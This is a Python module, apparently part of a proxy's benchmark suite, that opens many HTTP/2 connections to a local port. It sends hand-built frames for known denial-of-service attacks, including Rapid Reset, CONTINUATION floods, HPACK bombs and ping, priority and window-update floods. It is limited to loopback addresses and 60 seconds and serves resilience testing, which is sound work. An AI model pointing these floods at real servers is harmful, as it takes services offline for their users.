"""`python -m bench.attacker --port N --attack NAME --seconds S`: one client of HTTP/2 who means no good.

In: a plain port of a proxy. Out: a line as it begins, and one JSON object: connections made, and bytes sent, in that time. It is at 127.0.0.2, where nobody else is, and
has a few connections, each of which begins anew when it is ended. Must never run without an end, nor take the CPU from who is measured (SCHED_IDLE).
"""

import argparse
import errno
import json
import os
import selectors
import socket
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass

ADDRESS = "127.0.0.2"
CONNECTIONS = 16
STREAMS = 1500  # of a flood, on one connection
REST_SECONDS = 0.2  # that an ended flood waits to be closed
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, END_HEADERS = 1, 4
_GET, _POST, _HTTP, _ROOT = b"\x82", b"\x83", b"\x86", b"\x84"  # RFC 7541, appendix A


def _field(number: int, value: bytes) -> bytes:
    """A field of the static table with a value of its own, not kept (RFC 7541 6.2.2), below 127 bytes."""
    return bytes([number]) + bytes([len(value)]) + value


def _kept(name: bytes, value: bytes) -> bytes:
    """A field that its reader keeps in its table (RFC 7541 6.2.1), below 16,511 bytes."""
    rest = len(value) - 127
    return b"\x40" + bytes([len(name)]) + name + bytes([127, 128 | rest & 127, rest >> 7]) + value


def _named(name: bytes, value: bytes) -> bytes:
    """One with a name of its own, not kept."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HOST = _field(1, b"www-0.example.com")
ASK = _GET + _HTTP + _field(4, b"/get") + HOST
# More than a window and a read: 1,600 of 10 MiB kept the origin, which is everybody's, busy for seconds.
LONG = _GET + _HTTP + _field(4, b"/get/bytes/262144") + HOST
SEND = _POST + _HTTP + _field(4, b"/get") + HOST


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113 4.1)."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def _each(count: int, make: Callable[[int], bytes]) -> bytes:
    return b"".join(make(number) for number in range(1, 2 * count, 2))


def _ask_and_reset(stream: int) -> bytes:
    return frame(HEADERS, 5, stream, ASK) + frame(RST, 0, stream, b"\0\0\0\x08")


def _make_reset(stream: int) -> bytes:
    return frame(HEADERS, 5, stream, ASK + _named(b"te", b"gzip"))


def _bombs(count: int, times: int) -> bytes:
    """Requests of a few bytes each, whose heads name one large field again and again."""
    first = frame(HEADERS, END_HEADERS, 1, SEND + _kept(b"x-a", b"b" * 3500) + b"\xbe" * times)
    return first + b"".join(
        frame(HEADERS, END_HEADERS, number, SEND + b"\xbe" * times)
        for number in range(3, 2 * count, 2)
    )


@dataclass(frozen=True)
class Attack:
    """What a connection sends at once. holds: it stays, and nothing is read of it; else it begins anew when it is ended."""

    what: str
    data: bytes
    holds: bool = False
    settings: bytes = b""


NO_WINDOW = struct.pack(">HI", 4, 0)
ATTACKS = {
    "connections": Attack("new connections, nothing asked for", frame(GOAWAY, 0, 0, bytes(8))),
    "resets": Attack("streams opened and taken back (CVE-2023-44487)", _each(STREAMS, _ask_and_reset)),
    "resets-made": Attack("streams that have to be reset (CVE-2025-8671)", _each(STREAMS, _make_reset)),
    "continuations": Attack(
        "a head in ever more frames (CVE-2024-27316)",
        frame(HEADERS, END_STREAM, 1, ASK) + frame(CONTINUATION, 0, 1, b"\x82") * 20_000,
    ),
    "head": Attack("one head of 700 KB in 3.7 KB (HPACK bomb)", _bombs(1, 200)),
    "settings": Attack("33 entries in each SETTINGS", frame(SETTINGS, 0, 0, b"\0\x99\0\0\0\0" * 33) * 200),
    "pings": Attack("PINGs, answers not read (CVE-2019-9512)", frame(PING, 0, 0, bytes(8)) * 5000),
    "priorities": Attack("frames without content (CVE-2019-9518)", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 700_000),
    "empty": Attack(
        "empty DATA frames (CVE-2019-9518)", frame(HEADERS, END_HEADERS, 1, SEND) + frame(DATA, 0, 1) * 1_100_000
    ),
    "updates": Attack("windows opened byte by byte (CVE-2019-9511)", frame(UPDATE, 0, 0, b"\0\0\0\x01") * 20_000),
    "streams": Attack("more streams than announced", _each(STREAMS, lambda n: frame(HEADERS, END_HEADERS, n, SEND))),
    "stall": Attack(
        "100 answers of 256 KiB each, windows shut (CVE-2019-9517)",
        _each(100, lambda n: frame(HEADERS, 5, n, LONG)),
        holds=True,
        settings=NO_WINDOW,
    ),
    "unread": Attack(
        "100 answers of 256 KiB each, windows open, nothing read",
        frame(UPDATE, 0, 0, struct.pack(">I", 1 << 30)) + _each(100, lambda n: frame(HEADERS, 5, n, LONG)),
        holds=True,
        settings=struct.pack(">HI", 4, 1 << 30),
    ),
    "heads": Attack("100 heads of 50 KB in 16 bytes each (CVE-2026-49975)", _bombs(100, 14), holds=True),
    "bodies": Attack(
        "100 requests whose bodies do not come", _each(100, lambda n: frame(HEADERS, END_HEADERS, n, SEND)), holds=True
    ),
}  # fmt: skip


class Link:
    """One of its connections."""

    def __init__(self, attack: Attack, port: int) -> None:
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        self.sock.bind((ADDRESS, 0))
        self.sock.connect_ex(("127.0.0.1", port))
        self.begun = time.monotonic()
        self.data = memoryview(PREFACE + frame(SETTINGS, 0, 0, attack.settings) + attack.data)
        self.at = 0

    def send(self) -> bool:
        """Send what there is room for; False when the other end has ended it."""
        try:
            self.at += self.sock.send(self.data[self.at : self.at + 65_536])
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def drain(self) -> bool:
        """Throw away what came; False at the end."""
        try:
            return bool(self.sock.recv(65_536))
        except BlockingIOError:
            return True
        except OSError:
            return False


def attack_for(
    attack: Attack, port: int, seconds: float, connections: int = CONNECTIONS
) -> dict[str, int]:
    """Go on until the time is over."""
    made = sent = 0
    links: dict[int, Link] = {}
    end = time.monotonic() + seconds
    with selectors.EpollSelector() as selector:

        def drop(link: Link) -> None:
            nonlocal sent
            sent += link.at
            del links[link.sock.fileno()]
            with suppress(KeyError):
                selector.unregister(link.sock)
            link.sock.close()

        while (now := time.monotonic()) < end:
            for link in list(links.values()):
                if (
                    not attack.holds
                    and link.at == len(link.data)
                    and now - link.begun > REST_SECONDS
                ):
                    drop(link)
            while len(links) < connections:
                try:
                    link = Link(attack, port)
                except OSError as error:
                    if error.errno not in (errno.EADDRNOTAVAIL, errno.EMFILE):
                        raise
                    break
                links[link.sock.fileno()] = link
                made += 1
                selector.register(link.sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
            for key, events in selector.select(0.05):
                link = links[key.fd]
                alive = link.send() if events & selectors.EVENT_WRITE else True
                if alive and events & selectors.EVENT_READ and not attack.holds:
                    alive = link.drain()
                if not alive:
                    drop(link)
                elif link.at == len(link.data):
                    if attack.holds:
                        selector.unregister(link.sock)
                    else:
                        selector.modify(link.sock, selectors.EVENT_READ)
        for link in list(links.values()):
            drop(link)
    return {"connections": made, "bytes": sent}


def main() -> None:
    """Attack, and say how often."""
    parser = argparse.ArgumentParser(prog="python -m bench.attacker", description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--attack", choices=list(ATTACKS), required=True)
    parser.add_argument("--seconds", type=float, required=True, help="at most 60")
    options = parser.parse_args()
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print("begun", flush=True)
    print(
        json.dumps(attack_for(ATTACKS[options.attack], options.port, min(options.seconds, 60.0))),
        flush=True,
    )


if __name__ == "__main__":
    main()
